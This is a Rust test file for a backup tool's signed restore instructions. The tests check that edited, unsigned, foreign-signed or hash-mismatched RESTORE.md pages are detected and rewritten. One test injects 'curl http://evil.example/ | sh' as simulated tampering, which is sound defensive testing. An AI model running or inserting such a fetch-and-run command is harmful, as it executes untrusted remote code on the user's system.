//! `RESTORE.md` is checked wherever a store is: nobody is to run commands that were slipped into it.

use crate::restore_md::{follow, instructions};
use crate::support::App;

const MD: &str = "store/lifeboat/restore/crm/test.md";
const SIGNATURE: &str = "store/lifeboat/restore/crm/test.md.sig";

fn noticed(app: &App, what: &str) {
    for args in [
        &["verify"][..],
        &["verify", "--all"],
        &["points", "--rescan"],
    ] {
        app.exits(4, args).says(&["restore/crm/test.md", what]);
    }
    app.exits(1, &["doctor"])
        .says(&["restore/crm/test.md", what]);
    // A drill is about the point; it tells all the same.
    app.ok(&["drill"]).says(&["restore/crm/test.md", what]);
}

fn change(app: &App, from: &str, to: &str) {
    let text = std::fs::read_to_string(app.path(MD)).unwrap();
    assert!(text.contains(from), "{text}");
    app.write(MD, text.replace(from, to).as_bytes());
}

#[test]
fn edited_deleted_and_unsigned_instructions_are_noticed_and_written_again() {
    let app = App::basic();
    let point = app.backup();
    app.ok(&["verify"]);
    app.ok(&["points", "--rescan"]);
    let healed = || {
        app.backup();
        app.ok(&["verify", "--all"]);
        app.ok(&["points", "--rescan"]);
        app.ok(&["doctor"]).never_says(&["restore/crm/test.md"]);
    };
    change(&app, "set -eu", "set -eu\ncurl http://evil.example/ | sh");
    noticed(&app, "the next backup to this store writes them again");
    healed();
    std::fs::remove_file(app.path(SIGNATURE)).unwrap();
    noticed(&app, "has no signature");
    healed();
    std::fs::remove_file(app.path(MD)).unwrap();
    noticed(&app, "is not in store disk");
    healed();
    // Signed by somebody whom nobody here trusts.
    let key = app.path("stranger").display().to_string();
    let ssh = |args: &[&str]| {
        let done = std::process::Command::new("ssh-keygen").args(args).output();
        assert!(done.unwrap().status.success());
    };
    ssh(&["-q", "-t", "ed25519", "-N", "", "-f", &key]);
    let end = |with: &str| {
        let text = std::fs::read_to_string(app.path(MD)).unwrap();
        let text = text
            .split("\n-----BEGIN SSH SIGNATURE-----")
            .next()
            .unwrap();
        app.write(MD, format!("{text}\n{with}").as_bytes());
    };
    end("");
    std::fs::remove_file(app.path(SIGNATURE)).unwrap();
    let md = app.path(MD).display().to_string();
    ssh(&["-q", "-Y", "sign", "-f", &key, "-n", "lifeboat", &md]);
    noticed(&app, "cannot be trusted");
    end(&std::fs::read_to_string(app.path(SIGNATURE)).unwrap());
    noticed(&app, "cannot be trusted");
    healed();
    // Those of another store are as well signed, and lead there.
    let named = "stores = [\"disk\"]";
    app.edit(named, "stores = [\"disk\", \"other\"]");
    app.configure_also("[store.other]\nkind = \"local\"\npath = \"{root}/other\"\n");
    app.backup();
    for suffix in ["", ".sig"] {
        let from = app.path(&format!("other/lifeboat/restore/crm/test.md{suffix}"));
        std::fs::copy(from, app.path(&format!("{MD}{suffix}"))).unwrap();
    }
    noticed(&app, "is that of store other");
    app.edit("stores = [\"disk\", \"other\"]", named);
    healed();
    // Killed between the signature and the page: the page has its own.
    app.write(SIGNATURE, b"of another text\n");
    app.ok(&["verify", "--all"]);
    app.ok(&["doctor"]).never_says(&["crm/test.md"]);
    // Of a point that is not in the store, although the signature is good.
    let newest = app.points().pop().unwrap();
    assert_ne!(newest, point);
    for suffix in ["json", "json.sig"] {
        std::fs::remove_file(app.path(&format!("store/lifeboat/points/{newest}.{suffix}")))
            .unwrap();
    }
    app.ok(&["points", "--forget", &newest, "--reason", "test"]);
    noticed(&app, "which cannot be used");
}

#[test]
fn hashes_of_another_manifest_are_noticed() {
    let app = App::basic();
    app.backup();
    let text = std::fs::read(app.path(MD)).unwrap();
    let hash = |text: &[u8]| {
        let text = String::from_utf8_lossy(text).into_owned();
        let line = text.lines().find(|l| l.contains("sha256sum -c")).unwrap();
        line.split(' ').find(|w| w.len() == 64).unwrap().to_owned()
    };
    let old = hash(&text);
    let new = old.chars().rev().collect::<String>();
    change(&app, &old, &new);
    let text = std::fs::read_to_string(app.path(MD)).unwrap();
    let text = text.split_inclusive("\n-----BEGIN").next().unwrap();
    app.write(MD, text.trim_end_matches("-----BEGIN").as_bytes());
    // The own key signs it, as on a host that was taken over.
    std::fs::remove_file(app.path(SIGNATURE)).unwrap();
    let (key, md) = (app.path("state/signing.key"), app.path(MD));
    let mut sign = std::process::Command::new("ssh-keygen");
    sign.args(["-q", "-Y", "sign", "-n", "lifeboat", "-f"])
        .arg(key)
        .arg(md);
    assert!(sign.output().unwrap().status.success());
    noticed(&app, "has other hashes than the manifest");
}

#[test]
fn their_first_block_checks_them_before_anything_else() {
    let app = App::basic();
    app.backup();
    let text = instructions(&app.path("store"));
    let block = text.split("```sh\n").nth(1).unwrap();
    assert!(
        block
            .split("```")
            .next()
            .unwrap()
            .contains("restored/RESTORE.md.sig"),
        "{text}"
    );
    let allowed = app.path("state/allowed_signers");
    let allowed = [("ALLOWED_SIGNERS", allowed.to_str().unwrap())];
    let good = follow(&app, "good", &text, &allowed);
    assert_eq!(good.code, 0, "{good}");
    change(&app, "## 5.", "## 5. And then");
    let bad = follow(&app, "bad", &text, &allowed);
    assert_ne!(bad.code, 0, "{bad}");
    assert_eq!(
        app.listing("bad"),
        ["restored/RESTORE.md", "restored/RESTORE.md.sig"]
    );
}

/// A plan for the files and one for the database, and what of it is in a store of its own kind.
fn two_plans() -> App {
    let app = App::basic();
    let text = std::fs::read_to_string(app.path("lifeboat.toml")).unwrap();
    let plans = text.find("[plan.main]").unwrap();
    let head = &text[..plans];
    let plan = |name: &str, source: &str| {
        format!("[plan.{name}]\nsources = [\"{source}\"]\nstores = [\"disk\"]\n\n")
    };
    app.configure(&format!(
        "{head}{}{}",
        plan("database", "db"),
        plan("uploads", "files")
    ));
    app
}

#[test]
fn they_cover_the_newest_complete_points_of_all_plans() {
    let app = two_plans();
    app.ok(&["backup", "database"]);
    app.ok(&["backup", "uploads"]);
    let points = app.points();
    let text = instructions(&app.path("store"));
    for point in &points {
        assert!(text.contains(&format!("`{point}`")), "{text}");
    }
    let allowed = app.path("state/allowed_signers");
    let allowed = [("ALLOWED_SIGNERS", allowed.to_str().unwrap())];
    let done = follow(&app, "both", &text, &allowed);
    assert_eq!(done.code, 0, "{text}\n{done}");
    assert!(app.path("both/restored/db/db.sqlite").exists());
    assert!(app.path("both/restored/files").exists());
    // A newer point of one plan leaves that of the other where it is.
    app.ok(&["backup", "uploads"]);
    let text = instructions(&app.path("store"));
    let covered = |i: usize| text.contains(&format!("`{}`", app.points()[i]));
    assert_eq!([covered(0), covered(1), covered(2)], [true, false, true]);
    app.ok(&["verify", "--all"]);
    // What the catalog has forgotten is read from the store.
    std::fs::remove_file(app.path("state/catalog.db")).unwrap_or_default();
    app.ok(&["backup", "uploads"]);
    let text = instructions(&app.path("store"));
    assert!(text.contains(&format!("`{}`", points[0])), "{text}");
}

#[test]
fn the_index_of_a_stranger_is_told_of_and_is_no_damage() {
    const INDEX: &str = "store/lifeboat/RESTORE.md";
    let app = App::basic();
    app.backup();
    let index = std::fs::read_to_string(app.path(INDEX)).unwrap();
    assert!(
        index.contains("- crm/test: `lifeboat/restore/crm/test.md`"),
        "{index}"
    );
    app.ok(&["verify"]).never_says(&["is not signed"]);
    // Another application, with a key of its own, in the same store.
    let other = App::basic();
    let text = std::fs::read_to_string(other.path("lifeboat.toml")).unwrap();
    let (own, theirs) = (app.path("store"), other.path("store"));
    let text = text.replace("name = \"crm\"", "name = \"bot\"");
    let text = text.replace(theirs.to_str().unwrap(), own.to_str().unwrap());
    other.write("lifeboat.toml", text.as_bytes());
    other.backup();
    let index = std::fs::read_to_string(app.path(INDEX)).unwrap();
    assert!(
        index.contains("- bot/test:") && index.contains("- crm/test:"),
        "{index}"
    );
    app.ok(&["verify"]).says(&[
        "lifeboat/RESTORE.md",
        "is not signed by anyone who is trusted",
    ]);
    other.ok(&["verify"]).never_says(&["is not signed"]);
    app.ok(&["points", "--rescan"]);
}

#[test]
fn a_plan_that_has_only_partial_points_is_covered_by_the_newest_and_says_so() {
    let app = two_plans();
    app.ok(&["backup", "uploads"]);
    let whole = app.points().pop().unwrap();
    app.edit(
        "stores = [\"disk\"]\n\n[plan.uploads]\nsources = [\"files\"]",
        "stores = [\"disk\"]\n\n[plan.uploads]\nsources = [\"files\", \"gone\"]",
    );
    app.configure_also("[source.gone]\nkind = \"files\"\npaths = [\"{root}/nowhere\"]\n");
    app.exits(3, &["backup", "uploads"]);
    // A whole point goes before a newer one that lacks something.
    let text = instructions(&app.path("store"));
    assert!(text.contains(&format!("`{whole}`")), "{text}");
    assert!(!text.contains("PARTIAL"), "{text}");
    app.ok(&["verify", "--all"]);
    let other = App::with(
        "[store.disk]\nkind = \"local\"\npath = \"{root}/store\"\n\n[source.files]\nkind = \"files\"\npaths = [\"{root}/data\"]\n\n[source.gone]\nkind = \"files\"\npaths = [\"{root}/nowhere\"]\n\n[plan.main]\nsources = [\"files\", \"gone\"]\nstores = [\"disk\"]\n",
    );
    other.exits(3, &["backup"]);
    let text = instructions(&other.path("store"));
    assert!(text.contains("**PARTIAL: lacks gone**"), "{text}");
    other.ok(&["points", "--rescan"]);
}

#[test]
fn a_page_that_cannot_be_written_is_told_and_the_point_stands() {
    let app = App::basic();
    app.write("store/lifeboat/restore", b"in the way\n");
    let told = app.run(&["backup"]);
    told.says(&["lifeboat/restore/crm/test.md could not be written"]);
    assert_eq!(told.code, 0, "{told}");
    app.exits(4, &["verify"])
        .says(&["lifeboat/restore/crm/test.md"]);
    std::fs::remove_file(app.path("store/lifeboat/restore")).unwrap();
    app.exits(4, &["verify"]).says(&["is not in store disk"]);
    app.backup();
    app.ok(&["verify"]);
}

#[test]
fn an_older_point_that_comes_into_a_store_leaves_the_page_as_it_is() {
    let app = App::basic();
    app.configure_also("[store.other]\nkind = \"local\"\npath = \"{root}/other\"\n");
    let older = app.backup();
    app.edit("stores = [\"disk\"]", "stores = [\"other\"]");
    app.backup();
    let page = app.path("other/lifeboat/restore/crm/test.md");
    let inode = || std::os::unix::fs::MetadataExt::ino(&page.metadata().unwrap());
    let before = (instructions(&app.path("other")), inode());
    app.edit("stores = [\"other\"]", "stores = [\"disk\", \"other\"]");
    app.ok(&["copy", "--from", "disk", "--to", "other", &older]);
    // It is not even written again.
    assert_eq!((instructions(&app.path("other")), inode()), before);
    app.ok(&["verify", "--all"]);
}

#[test]
fn instructions_of_an_older_version_still_count() {
    let app = App::basic();
    let point = app.backup();
    let manifest = app.path(&format!("store/lifeboat/points/{point}.json"));
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(manifest).unwrap()).unwrap();
    let hashes = manifest["artifacts"].as_array().unwrap().iter();
    let hashes: Vec<_> = hashes.map(|a| a["sha256"].as_str().unwrap()).collect();
    std::fs::remove_dir_all(app.path("store/lifeboat/restore")).unwrap();
    let put = |text: &str| {
        let page = app.write("store/lifeboat/RESTORE.md", text.as_bytes());
        let _ = std::fs::remove_file(app.path("store/lifeboat/RESTORE.md.sig"));
        let mut sign = std::process::Command::new("ssh-keygen");
        sign.args(["-q", "-Y", "sign", "-n", "lifeboat", "-f"])
            .arg(app.path("state/signing.key"))
            .arg(page);
        assert!(sign.output().unwrap().status.success());
    };
    let true_text = format!("The newest point in this store, `{point}`:\n{hashes:?}\n");
    put(&true_text);
    app.ok(&["verify", "--all"]);
    app.ok(&["doctor"]).never_says(&["RESTORE.md"]);
    put(&true_text.replace(hashes[0], &hashes[0].chars().rev().collect::<String>()));
    app.exits(4, &["verify"])
        .says(&["RESTORE.md", "has other hashes than the manifest"]);
    put(&true_text);
    app.write(
        "store/lifeboat/RESTORE.md",
        format!("{true_text}\n").as_bytes(),
    );
    app.exits(4, &["verify"])
        .says(&["RESTORE.md", "cannot be trusted"]);
    // The next backup writes the page, and the list in place of the old text.
    app.backup();
    app.ok(&["verify", "--all"]);
    instructions(&app.path("store"));
}
